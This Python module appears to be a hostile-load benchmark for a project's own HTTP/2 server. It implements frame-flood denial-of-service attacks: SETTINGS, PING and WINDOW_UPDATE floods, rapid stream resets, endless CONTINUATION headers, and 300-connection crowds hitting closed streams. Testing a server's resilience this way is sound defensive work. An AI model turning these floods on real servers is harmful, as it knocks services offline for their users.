"""Attacks by floods of frames."""

from __future__ import annotations

import itertools
import ssl
from collections.abc import Callable
from contextlib import suppress

from benchmarks.hostile.peer import (
    CREDIT,
    EXCHANGE,
    Peer,
    chunk,
    exchange_header,
    header_block,
    headers,
    in_threads,
    with_crowd,
)
from benchmarks.hostile.victim import Victim

from bngrad_wire.http2 import frames
from bngrad_wire.http2.errors import ErrorCode

_CONNECTIONS = 8
_CROWD = 300
_BURST_NBYTES = 2**16
_CROWD_BURST_NBYTES = 2**12
_HEADERS_NBYTES = 2**14
_ANNOUNCED_NBYTES = 2**20


def flood_settings(victim: Victim) -> None:
    """Stranger: SETTINGS on 8 connections a door, which come back at once"""
    _flood(victim, frames.settings({frames.HEADER_TABLE_SIZE: 0}))


def flood_pings(victim: Victim) -> None:
    """Stranger: PING on 8 connections a door, which come back at once"""
    _flood(victim, frames.frame(frames.PING, 0, 0, bytes(8)))


def flood_priorities(victim: Victim) -> None:
    """Stranger: PRIORITY of idle streams on 8 connections a door, which come back at once"""
    _flood(victim, frames.frame(frames.PRIORITY, 0, 3, bytes(5)))


def flood_window_updates(victim: Victim) -> None:
    """Stranger: WINDOW_UPDATE by 1 of the connection on 8 connections a door, which come back at once"""
    _flood(victim, frames.window_update(0, 1))


def flood_unknown_frames(victim: Victim) -> None:
    """Stranger: empty frames of an unknown type on 8 connections a door, which come back at once"""
    _flood(victim, frames.frame(0xBB, 0, 0, b""))


def flood_continuations(victim: Victim) -> None:
    """Stranger: HEADERS and then empty CONTINUATION on 8 connections a door, which come back at once"""
    _flood(victim, frames.frame(frames.CONTINUATION, 0, 1, b""), frames.frame(frames.HEADERS, 0, 1, header_block()))


def flood_resets(victim: Victim) -> None:
    """Stranger: calls without a token that are reset at once, on 8 connections a door, which come back at once"""
    _flood_of_calls(victim, "")


def flood_tenants_resets(victim: Victim) -> None:
    """Tenant: calls with a token that are reset at once, on 8 connections a door, which come back at once"""
    _flood_of_calls(victim, victim.token)


def flood_empty_data(victim: Victim) -> None:
    """Tenant: empty DATA on an open exchange, on 8 connections a door, which come back at once"""
    _flood(victim, frames.frame(frames.DATA, 0, 1, b""), headers(1, EXCHANGE, victim.token))


def flood_padding(victim: Victim) -> None:
    """Tenant: DATA of padding alone on an open exchange, on 8 connections a door, which come back at once"""
    padding = frames.frame(frames.DATA, frames.PADDED, 1, b"\x01\0")
    _flood(victim, padding, headers(1, EXCHANGE, victim.token))


def flood_short_chunks(victim: Victim) -> None:
    """Tenant: chunks of 1 byte, packed in large frames, on 8 connections a door, which come back at once"""
    header = frames.frame(frames.DATA, 0, 1, exchange_header(_ANNOUNCED_NBYTES))
    packed = frames.frame(frames.DATA, 0, 1, chunk(1) * (_HEADERS_NBYTES // len(chunk(1))))
    _flood(victim, packed, headers(1, EXCHANGE, victim.token) + header)


def closed_stream_updates(victim: Victim) -> None:
    """Stranger: WINDOW_UPDATE by 1 for a refused call, on 300 connections a door"""
    _crowd_on_closed_stream(victim, frames.window_update(1, 1))


def closed_stream_data(victim: Victim) -> None:
    """Stranger: DATA of 0 and 1 bytes for a refused call, on 300 connections a door"""
    _crowd_on_closed_stream(victim, frames.frame(frames.DATA, 0, 1, b"") + frames.frame(frames.DATA, 0, 1, b"\0"))


def huge_metadata(victim: Victim) -> None:
    """Stranger: a call whose metadata never ends"""
    block = header_block(extra=tuple((f"x-{number}", "x" * 4000) for number in range(4)))[:_HEADERS_NBYTES]
    more = frames.frame(frames.CONTINUATION, 0, 1, block) * 16

    def attack(number: int) -> None:
        with Peer(victim) as peer:
            peer.send(frames.frame(frames.HEADERS, 0, 1, block))
            while True:
                peer.send(more)

    in_threads(1, attack)


def _flood(victim: Victim, frame: bytes, opening: bytes = b"") -> None:
    burst = frame * (_BURST_NBYTES // len(frame))
    _flood_with(victim, opening, lambda: itertools.repeat(burst).__next__)


def _flood_of_calls(victim: Victim, token: str) -> None:
    def bursts() -> Callable[[], bytes]:
        streams = itertools.count(1, 2)

        def burst() -> bytes:
            calls = (
                headers(stream, token=token) + frames.rst_stream(stream, ErrorCode.CANCEL)
                for stream in itertools.islice(streams, 100)
            )
            return b"".join(calls)

        return burst

    _flood_with(victim, b"", bursts)


def _flood_with(victim: Victim, opening: bytes, bursts: Callable[[], Callable[[], bytes]]) -> None:
    def attack(number: int) -> None:
        with Peer(victim, CREDIT) as peer:
            peer.send(opening)
            burst = bursts()
            while True:
                peer.send(burst())
                peer.poll()

    in_threads(_CONNECTIONS, attack)


def _crowd_on_closed_stream(victim: Victim, some: bytes) -> None:
    burst = some * (_CROWD_BURST_NBYTES // len(some))
    unsent: dict[Peer, bytes] = {}

    def begin() -> Peer:
        peer = Peer(victim, CREDIT)
        peer.send(headers(1))
        return peer

    def step(peer: Peer) -> None:
        peer.poll()
        if 1 not in peer.ended:
            return
        rest = unsent.pop(peer, burst)
        peer.sock.settimeout(0)
        with suppress(BlockingIOError, ssl.SSLWantWriteError):
            rest = rest[peer.sock.send(rest) :] or burst
        unsent[peer] = rest

    with_crowd(_CROWD, begin, step, 0.0)
